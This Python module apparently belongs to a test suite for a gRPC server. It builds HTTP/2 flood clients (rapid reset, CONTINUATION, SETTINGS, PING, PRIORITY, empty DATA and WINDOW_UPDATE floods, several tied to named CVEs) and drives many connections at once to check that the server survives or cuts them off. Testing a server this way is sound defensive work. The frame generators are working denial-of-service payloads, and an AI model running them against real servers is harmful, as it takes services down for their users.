"""Clients that flood a server over HTTP/2, each by frames of one kind, and what becomes of them."""

import collections
import selectors
import time

from http2_frames import (CANCEL, CONTINUATION, DATA, END_HEADERS, HEADERS, LAST_PING,
                          MOST_FRAME_BYTES, PATIENCE_S, PING, PRIORITY, RST_STREAM, SETTINGS,
                          WINDOW_UPDATE, call_headers, frame, integer, literal)

METHOD = b"/longspan.v1.Inference/GetLoad"
PIECE_BYTES = 1 << 16
# Of those that read nothing: little is kept for them, so that the server is what has to keep it.
UNREAD_BYTES = 4096
# A client that cannot send for this long, and has read nothing so far, begins to read.
STALL_S = 0.5


def in_pieces(frames):
    piece = bytearray()
    for one in frames:
        piece += one
        if len(piece) >= PIECE_BYTES:
            yield bytes(piece)
            piece.clear()
    yield bytes(piece)


def streams(count):
    return range(1, 2 * count, 2)


def opened(stream, scheme):
    return frame(HEADERS, END_HEADERS, stream, call_headers(METHOD, scheme))


def resets(count, scheme):
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    cancel = CANCEL.to_bytes(4, "big")
    for stream in streams(count):
        yield opened(stream, scheme) + frame(RST_STREAM, 0, stream, cancel)


def headers(count, scheme):
    """Calls that nothing follows."""
    return (opened(stream, scheme) for stream in streams(count))


def continuation(count, scheme):
    """One block of headers without end, of many headers (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, call_headers(METHOD, scheme))
    one = literal(b"x-filler", b"f" * 1000)
    many = one * (MOST_FRAME_BYTES // len(one))
    for _ in range(count - 1):
        yield frame(CONTINUATION, 0, 1, many)
    yield frame(CONTINUATION, END_HEADERS, 1)


def continued_value(count, scheme):
    """Likewise, of one header whose value is as long as all of it."""
    block = call_headers(METHOD, scheme) + b"\0" + integer(8, 7) + b"x-filler"
    yield frame(HEADERS, 0, 1, block + integer(count * MOST_FRAME_BYTES, 7))
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1, b"f" * MOST_FRAME_BYTES)
    yield frame(CONTINUATION, END_HEADERS, 1)


def empty_continuation(count, scheme):
    """Likewise, of frames without a byte."""
    yield frame(HEADERS, 0, 1, call_headers(METHOD, scheme))
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1)
    yield frame(CONTINUATION, END_HEADERS, 1)


def settings(count, scheme):
    """Each is to be acknowledged (CVE-2019-9515)."""
    del scheme
    initial_window = 4
    for index in range(count):
        value = (65_535 - index % 2).to_bytes(4, "big")
        yield frame(SETTINGS, 0, 0, initial_window.to_bytes(2, "big") + value)


def pings(count, scheme):
    """Each is to be answered (CVE-2019-9512)."""
    del scheme
    return (frame(PING, 0, 0, index.to_bytes(8, "big")) for index in range(count))


def priorities(count, scheme):
    """Streams that never are, in an order that changes (CVE-2019-9513)."""
    del scheme
    return (frame(PRIORITY, 0, stream, b"\0\0\0\0\1") for stream in streams(count))


def empty_data(count, scheme):
    """Of a call, without a byte and without an end (CVE-2019-9518)."""
    yield opened(1, scheme)
    for _ in range(count):
        yield frame(DATA, 0, 1)


def window_updates_of_nothing(count, scheme):
    del scheme
    return (frame(WINDOW_UPDATE, 0, 0, bytes(4)) for _ in range(count))


# What each is made of, and of how many. `unread`: whoever floods reads none of the answers, until
# it cannot send; no word reaches it. `library`: gRPC itself ends it too, and may be the first to,
# perhaps without a word.
Flood = collections.namedtuple("Flood", "frames count unread library", defaults=(False, False))
FLOODS = {
    "resets": Flood(resets, 40_000),
    "headers": Flood(headers, 40_000),
    "continuation": Flood(continuation, 4_096),
    "settings": Flood(settings, 200_000),
    "pings": Flood(pings, 200_000, library=True),
    "unread settings": Flood(settings, 200_000, unread=True),
    "unread pings": Flood(pings, 200_000, unread=True, library=True),
    "continued value": Flood(continued_value, 256),
    "empty continuation": Flood(empty_continuation, 200_000),
    "priorities": Flood(priorities, 200_000),
    "empty data": Flood(empty_data, 200_000),
    "window updates of nothing": Flood(window_updates_of_nothing, 200_000, library=True),
}


class Flooder:
    """One connection, until it is cut off or has sent all and was answered a last question."""

    def __init__(self, flood, connect, share=1.0):
        self._reads = not flood.unread
        self.connection = connect(UNREAD_BYTES if flood.unread else 0)
        frames = flood.frames(max(1, int(share * flood.count)), self.connection.scheme)
        self._pieces = in_pieces(frames)
        self._left = memoryview(b"")
        self._asks = False
        self.sent_bytes = 0

    @property
    def cut(self):
        return self.connection.ended

    @property
    def done(self):
        return self.cut or (self._asks and not self._left and self.connection.answered)

    @property
    def interest(self):
        reads = selectors.EVENT_READ if self._reads else 0
        return reads | (0 if self._asks and not self._left else selectors.EVENT_WRITE)

    def _fill(self):
        piece = next(self._pieces, None)
        if piece is None and not self._asks:
            self._asks, self._reads = True, True
            piece = frame(PING, 0, 0, LAST_PING)
        self._left = memoryview(piece or b"")

    def on_ready(self, events):
        if events & selectors.EVENT_READ:
            self.connection.receive()
        if events & selectors.EVENT_WRITE and not self.cut:
            if not self._left:
                self._fill()
            count = self.connection.send(self._left)
            self.sent_bytes += count
            self._left = self._left[count:]

    def on_stall(self):
        self._reads = True


def run(flooders, until=lambda: False, patience_s=PATIENCE_S):
    """All at once on this thread, until each is done, or it is time to leave."""
    selector = selectors.DefaultSelector()
    going = {flooder for flooder in flooders if not flooder.done}
    interests = {}
    give_up_s = time.monotonic() + patience_s
    while going and not until():
        for flooder in going:
            if interests.get(flooder) != flooder.interest:
                change = selector.modify if flooder in interests else selector.register
                change(flooder.connection.socket, flooder.interest, flooder)
                interests[flooder] = flooder.interest
        ready = selector.select(timeout=STALL_S)
        assert time.monotonic() < give_up_s, "the server neither takes all of it nor ends it"
        for flooder in going if not ready else ():
            flooder.on_stall()
        for key, events in ready:
            key.data.on_ready(events)
            if key.data.done:
                selector.unregister(key.fileobj)
                going.discard(key.data)
    selector.close()
